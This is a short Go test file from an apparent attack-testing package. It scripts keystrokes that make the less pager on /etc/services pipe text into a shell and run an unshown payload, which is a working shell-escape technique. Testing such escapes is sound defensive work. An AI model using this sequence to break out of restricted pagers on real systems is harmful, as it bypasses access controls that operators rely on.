package attack

import "testing"

// TestLessPipe: less pipes the text between two marks into a shell.
func TestLessPipe(t *testing.T) {
	trick{path: "/usr/bin/less", args: []string{"/etc/services"}, list: true,
		steps: []step{{"services", "|."}, {"!", payload + "\r"}}, ends: "\rq\r\rq"}.try(t)
}
